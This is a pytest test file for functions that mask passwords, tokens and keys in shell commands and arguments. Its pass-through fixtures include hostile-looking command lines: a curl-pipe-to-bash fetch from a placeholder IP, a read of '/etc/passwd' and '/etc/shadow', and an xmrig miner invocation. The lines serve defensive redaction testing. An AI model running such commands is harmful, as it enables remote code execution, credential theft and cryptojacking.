from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tables.schema import MAX_TEXT
from tables.text.secrets import mask_arguments, mask_secrets
from tests.support.linear import assert_linear


@pytest.mark.parametrize(
    "command",
    [
        "mysql -u root -phunter2 db",
        "curl -u bob:hunter2 https://x/",
        "curl https://bob:hunter2@x/y",
        "git clone https://hunter2@github.com/a/b",
        "export DB_PASSWORD=hunter2",
        "docker run -e POSTGRES_PASSWORD='hunter2 x' pg",
        "curl -H 'Authorization: Bearer hunter2hunter2' https://x",
        'curl -d \'{"api_key": "hunter2"}\' https://x',
        "curl https://x/?token=hunter2",
        "echo hunter2 | sudo -S ls",
        "echo root:hunter2 | chpasswd",
        "sshpass -p hunter2 ssh a",
        "vault login --token hunter2",
        "redis-cli -a hunter2 ping",
        "aws configure set aws_secret_access_key hunter2",
        "echo ghp_hunter2hunter2hunter2hunter2 > x",
        "AKIAHUNTER2HUNTER2AB",
        "redis-server --requirepass hunter2",
        "rclone --pass=hunter2",
        "MYSQL_PASS=hunter2 ./x",
    ],
)
def test_secrets_are_masked(command: str) -> None:
    assert "hunter2" not in mask_secrets(command).lower()
    assert "***" in mask_secrets(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://203.0.113.9/x.sh | bash",
        "cat /etc/passwd /etc/shadow",
        "passwd bob",
        "ssh -p 2222 bob@host",
        "./xmrig -o pool.example:3333 -u 44abc -p x",
        "chmod 600 token",
        "etcd --auth-token-file /run/token --cert-file=/x",
        "mongod --password --port 1",
        "x --bypass 1 --compass=2",
    ],
)
def test_what_is_no_secret_stays(command: str) -> None:
    assert mask_secrets(command) == command


@given(st.text(max_size=300))
def test_masking_never_raises(command: str) -> None:
    mask_secrets(command)
    mask_secrets("password" * 50 + command)
    mask_arguments(command.split("="))


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["a", "--token=x", "--password", "y", "z"], "a --token=*** --password *** z"),
        (["a", "--ServerApp.token=", "--NotebookApp.token=''"], "a --ServerApp.token= --NotebookApp.token=''"),
        (["a", "--password-file=/p", "--port", "1"], "a --password-file=/p --port 1"),
        (["a", "postgres://u:secret@h/db"], "a postgres://***@h/db"),
        (["a", "--requirepass", "--port"], "a --requirepass --port"),
        (["a", "-key", "v"], "a -key ***"),
        (["a", "--token=x", "y"], "a --token=*** y"),
        (["a", "--token", "-"], "a --token ***"),
        (["a", "--requirepass", "two words"], "a --requirepass ***"),
        (["a", "-H", "Authorization: Bearer x"], "a -H Authorization: ***"),
    ],
)
def test_secrets_among_arguments(argv: list[str], shown: str) -> None:
    assert mask_arguments(argv) == shown


@pytest.mark.parametrize(
    "piece", ["pwd", "token=", "a", ".", "-", "x-", "echo ", "mysql ", "eyJ", "a:", "://", '"', "-u ", "cookie:"]
)
def test_a_text_made_to_be_slow_takes_linear_time(piece: str) -> None:
    assert_linear(lambda amount: mask_secrets(piece * amount), 2_000)
    assert_linear(lambda amount: mask_arguments([piece] * amount), 2_000)


def test_arguments_are_cut_before_they_are_searched() -> None:
    shown = mask_arguments(["pwd" * 400_000, "--password", "hunter2"])
    assert MAX_TEXT < len(shown) < 3 * MAX_TEXT and "hunter2" not in shown
